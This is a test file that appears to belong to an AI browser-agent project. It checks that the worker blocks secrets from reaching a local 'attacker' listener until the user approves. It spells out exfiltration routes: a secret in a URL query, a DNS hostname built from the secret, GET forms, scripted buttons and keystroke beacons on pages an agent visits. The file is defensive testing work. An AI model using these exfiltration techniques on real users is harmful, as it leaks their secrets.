import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { TBrowserAction, TBrowserEgress, TBrowserObservation } from "@/lib/browser/protocol";
import { BrowserWorkerClient } from "@/lib/browser/worker-client";
import { findChromium } from "@/lib/browser/chromium";
import { startBrowserWorker, type TBrowserWorker } from "@/workers/browser/worker";
import { startBrowserSite, type TBrowserSite } from "../fixtures/browser-site/server";

// Slow by nature (real Chromium), and slower on a busy machine: room beyond the 30 s default.
vi.setConfig({ testTimeout: 120_000 });

/**
 * Egress (DESIGN.md decision 8): data leaves the browser only for the sites the session allows,
 * unless the action was approved. Real Chromium against two fixture sites on two loopback origins,
 * both reachable (on the SSRF allow-list): `site` is the session's allowed site, `attacker` a
 * listener that records whatever reaches it (/collect). Each test plays one of the ways a secret
 * left with no approval before: an address carrying it, a GET form, a scripted "Next" button, a
 * page that beacons every keystroke. "Approved" is what the tools send after Approve: a describe
 * (the card) and the action with allowSensitive.
 */
const chromium = findChromium();
if (!chromium) throw new Error("These tests need Chromium (apt-get install chromium, or CHROMIUM_PATH).");

const SECRET = "sk-live-7Hq2Zx9Wv4";
const WORKER_SECRET = randomBytes(24).toString("hex");

let site: TBrowserSite;
let attacker: TBrowserSite;
/** Every name the worker looked up: what the DNS servers of those names would have seen. */
const lookups: string[] = [];
let worker: TBrowserWorker;
let client: BrowserWorkerClient;

beforeAll(async () => {
  site = await startBrowserSite();
  attacker = await startBrowserSite();
  worker = await startBrowserWorker({
    secret: WORKER_SECRET,
    executablePath: chromium,
    allowedPrivateHosts: [site.host, attacker.host],
    maxContexts: 10,
    idleMs: 10 * 60_000,
    navigationTimeoutMs: 10_000,
    networkIdleMs: 1_000,
    contentPageCharacters: 8_000,
    lookup: async (host) => {
      lookups.push(host);
      throw Object.assign(new Error("not found"), { code: "ENOTFOUND" });
    },
  });
  client = new BrowserWorkerClient({ url: worker.url, secret: WORKER_SECRET });
}, 60_000);
afterAll(async () => {
  await worker?.close(1_000);
  await site?.close();
  await attacker?.close();
});
beforeEach(() => {
  site.reset();
  attacker.reset();
});

let sessionCounter = 0;
function newSession(egress: Partial<TBrowserEgress> = {}) {
  const sessionId = `egress-${++sessionCounter}-${randomBytes(3).toString("hex")}`;
  const policy: TBrowserEgress = { mode: egress.mode ?? "ask", allowedOrigins: egress.allowedOrigins ?? [site.url] };
  return (action: TBrowserAction) => client.act({ userId: "user-a", sessionId, action, egress: policy });
}

const navigate = (url: string, allowSensitive?: boolean): TBrowserAction => ({ type: "navigate", url, ...(allowSensitive === undefined ? {} : { allowSensitive }) });
const type = (selector: string, text: string, allowSensitive = false): TBrowserAction => ({ type: "type", target: { selector }, text, allowSensitive });
const click = (selector: string, allowSensitive = false): TBrowserAction => ({ type: "click", target: { selector }, allowSensitive });
const key = (name: string, allowSensitive = false): TBrowserAction => ({ type: "key", key: name, allowSensitive });
const content: TBrowserAction = { type: "content", mode: "text", offset: 0 };

const toAttacker = () => `to=${encodeURIComponent(attacker.url)}`;
const NOT_ALLOWED = `${"a site the user has not allowed in this chat"}`;

function expectRefused(observation: TBrowserObservation, tool: string) {
  expect(observation.isError).toBe(true);
  expect(observation.needsApproval).toBeDefined();
  expect(observation.text).toContain(`call ${tool} again with the same arguments and "sensitive": true`);
}

describe("an address that carries the secret", () => {
  it("is not opened on a site that is not allowed, neither as the first page nor later; once approved it is", async () => {
    const act = newSession();
    const address = `${attacker.url}/collect?secret=${SECRET}`;
    const first = await act(navigate(address));
    expectRefused(first, "browser_navigate");
    expect(first.needsApproval!.reason).toBe(`it sends the address to ${attacker.url}, ${NOT_ALLOWED}`);
    expect((await act(navigate(`${site.url}/landing.html`))).text).toContain('Opened "Landing"');
    expectRefused(await act(navigate(address, false)), "browser_navigate");
    expect(attacker.requests).toEqual([]);

    const approved = await act(navigate(address, true));
    expect(approved).toMatchObject({ isError: false, text: expect.stringContaining('Opened "Collected"') });
    expect(attacker.collected).toEqual([{ method: "GET", path: "/collect", query: `?secret=${SECRET}`, body: "" }]);
  });

  it("is refused before the host name is looked up, which the attacker's DNS server would see", async () => {
    const act = newSession();
    const address = `http://${SECRET.toLowerCase()}.exfil.test:${attacker.port}/`;
    expectRefused(await act(navigate(address)), "browser_navigate");
    await act(navigate(`${site.url}/landing.html`));
    expectRefused(await act(navigate(address)), "browser_navigate");
    expect(lookups.filter((host) => host.includes(SECRET.toLowerCase()))).toEqual([]);
    // Approved, it is looked up (and here, not found).
    expect((await act(navigate(address, true))).text).toMatch(/could not be resolved/);
    expect(lookups).toContain(`${SECRET.toLowerCase()}.exfil.test`);
  });

  it("opens allowed sites without asking, and any site with browser.egress: allow", async () => {
    const allowing = newSession({ allowedOrigins: [site.url, attacker.url] });
    expect((await allowing(navigate(`${attacker.url}/collect?secret=${SECRET}`))).isError).toBe(false);
    const unrestricted = newSession({ mode: "allow", allowedOrigins: [] });
    expect((await unrestricted(navigate(`${attacker.url}/collect?again=${SECRET}`))).isError).toBe(false);
    expect(attacker.collected.map((entry) => entry.query)).toEqual([`?secret=${SECRET}`, `?again=${SECRET}`]);
  });
});

describe("typed text on an allowed site", () => {
  it("does not leave through a GET form to another site, by click or Enter, until approved", async () => {
    const act = newSession();
    await act(navigate(`${site.url}/exfil-get-form.html?${toAttacker()}`));
    expect((await act(type("#q", SECRET))).isError).toBe(false);
    const clicked = await act(click("#go"));
    expectRefused(clicked, "browser_click");
    expect(clicked.needsApproval!.reason).toBe(`it submits the form to ${attacker.url} with GET, ${NOT_ALLOWED}`);
    const entered = await act(key("Enter"));
    expectRefused(entered, "browser_key");
    expect(entered.needsApproval!.reason).toBe(`it submits the form to ${attacker.url} with GET, ${NOT_ALLOWED}`);
    expect(attacker.requests).toEqual([]);

    const card = await act({ type: "describe", action: "click", target: { selector: "#go" } });
    expect(card).toMatchObject({ destination: attacker.url, submission: { kind: "form", method: "GET", origin: attacker.url } });
    expect(card.text).toContain(`${attacker.url} is not among the sites the user allowed in this chat.`);
    const approved = await act(click("#go", true));
    expect(approved.text).toContain('Navigated to "Collected"');
    expect(attacker.collected).toEqual([{ method: "GET", path: "/collect", query: `?q=${SECRET}`, body: "" }]);
  });

  it("does not leave through a scripted Next button or a new tab, until the card names that site and the user approves", async () => {
    const act = newSession();
    await act(navigate(`${site.url}/exfil-next.html?${toAttacker()}`));
    await act(type("#code", SECRET));
    const next = await act(click("#next"));
    expectRefused(next, "browser_click");
    expect(next.text).toMatch(new RegExp(`^Clicked \\[\\d+ button "Next"\\], but it led to GET ${attacker.url.replace(/\./g, "\\.")}/collect, on ${attacker.url.replace(/\./g, "\\.")}, ${NOT_ALLOWED}; nothing was sent there\\.`));
    expect(next.needsApproval!.reason).toBe(`it opens ${attacker.url}, ${NOT_ALLOWED}`);
    const popup = await act(click("#popup"));
    expectRefused(popup, "browser_click");
    expect(attacker.requests).toEqual([]);
    // Still on the first step, in the tab the agent was using.
    expect((await act(content)).text).toContain("Tell us your access code");

    const card = await act({ type: "describe", action: "click", target: { selector: "#next" } });
    expect(card.destination).toBe(attacker.url);
    expect(card.text).toContain(`Tried without approval, it made the page send to ${attacker.url}, which was stopped.`);
    const approved = await act(click("#next", true));
    expect(approved.text).toContain('Navigated to "Collected"');
    expect(attacker.collected).toEqual([{ method: "GET", path: "/collect", query: `?step=2&code=${SECRET}`, body: "" }]);
  });

  it("is not beaconed away while typing, nor by a later click, nor from the site's next page; approved typing may send it", async () => {
    const act = newSession();
    await act(navigate(`${site.url}/exfil-beacon.html?${toAttacker()}`));
    const typed = await act(type("#email", SECRET));
    expect(typed.isError).toBe(false);
    expect(typed.text).toContain(`its value is now "${SECRET}"`);
    expect(typed.text).toContain(`While it ran, the page tried to send data to ${attacker.url} (`);
    expect(typed.text).toContain(`If the page needs it, call browser_type again with the same arguments and "sensitive": true to ask the user.`);
    // The site's next page sends what the first one stored.
    const later = await act(navigate(`${site.url}/exfil-later.html?${toAttacker()}`));
    expect(later.text).toContain(`Blocked 1 request that would have sent data to ${NOT_ALLOWED}: POST ${attacker.url}/collect.`);
    expect((await act(content)).text).toContain("not sent");
    // A harmless-looking link later on sends it with fetch.
    await act(navigate(`${site.url}/exfil-next.html?${toAttacker()}`));
    await act(type("#code", SECRET));
    const tips = await act(click("#later"));
    expect(tips.isError).toBe(false);
    expect(tips.text).toContain(`While it ran, the page tried to send data to ${attacker.url} (GET ${attacker.url}/collect)`);
    expect((await act(content)).text).toContain("tips failed");
    expect(attacker.requests).toEqual([]);

    // Approved: the card names the site the page tried to reach, and the approved typing may send there.
    await act(navigate(`${site.url}/exfil-beacon.html?${toAttacker()}`));
    await act(type("#email", "first"));
    const card = await act({ type: "describe", action: "type", target: { selector: "#email" } });
    expect(card.destination).toBe(attacker.url);
    expect((await act(type("#email", SECRET, true))).text).not.toContain("tried to send data");
    expect(attacker.collected).toContainEqual({ method: "POST", path: "/collect", query: "", body: `beacon=${SECRET}` });
    expect(attacker.collected).toContainEqual({ method: "GET", path: "/collect", query: `?pixel=${SECRET}`, body: "" });
    expect(attacker.collected.some((entry) => entry.body.includes("first") || entry.query.includes("first"))).toBe(false);
  });

  it("goes to a site the user allowed without asking", async () => {
    const act = newSession({ allowedOrigins: [site.url, attacker.url] });
    await act(navigate(`${site.url}/exfil-beacon.html?${toAttacker()}`));
    const typed = await act(type("#email", SECRET));
    expect(typed).toMatchObject({ isError: false });
    expect(typed.text).not.toContain("tried to send data");
    expect(attacker.collected).toContainEqual({ method: "POST", path: "/collect", query: "", body: `beacon=${SECRET}` });
  });
});

describe("a page on a site that is not allowed", () => {
  it("takes no typing, clicks or keys without approval, but can always be read", async () => {
    const act = newSession();
    // The user approved opening it (no secret in the address).
    expect((await act(navigate(`${attacker.url}/exfil-beacon.html`, true))).isError).toBe(false);
    attacker.reset();
    const typed = await act(type("#email", SECRET));
    expectRefused(typed, "browser_type");
    expect(typed.needsApproval!.reason).toBe(`this page is on ${attacker.url}, ${NOT_ALLOWED}, and the page gets what is typed`);
    expectRefused(await act(click("#email")), "browser_click");
    expectRefused(await act(key("a")), "browser_key");
    expect(attacker.requests).toEqual([]);

    const read = await act(content);
    expect(read).toMatchObject({ isError: false, text: expect.stringContaining("Get our newsletter") });
    for (const action of [{ type: "screenshot", annotated: false }, { type: "screenshot", annotated: true }, { type: "scroll", direction: "down", pixels: 300 }] as TBrowserAction[]) {
      const observation = await act(action);
      expect(observation.isError).toBe(false);
      expect(observation.needsApproval).toBeUndefined();
    }

    const card = await act({ type: "describe", action: "type", target: { selector: "#email" } });
    expect(card.destination).toBe(attacker.url);
    expect((await act(type("#email", SECRET, true))).isError).toBe(false);
    expect(attacker.collected).toContainEqual({ method: "POST", path: "/collect", query: "", body: `beacon=${SECRET}` });
  });
});
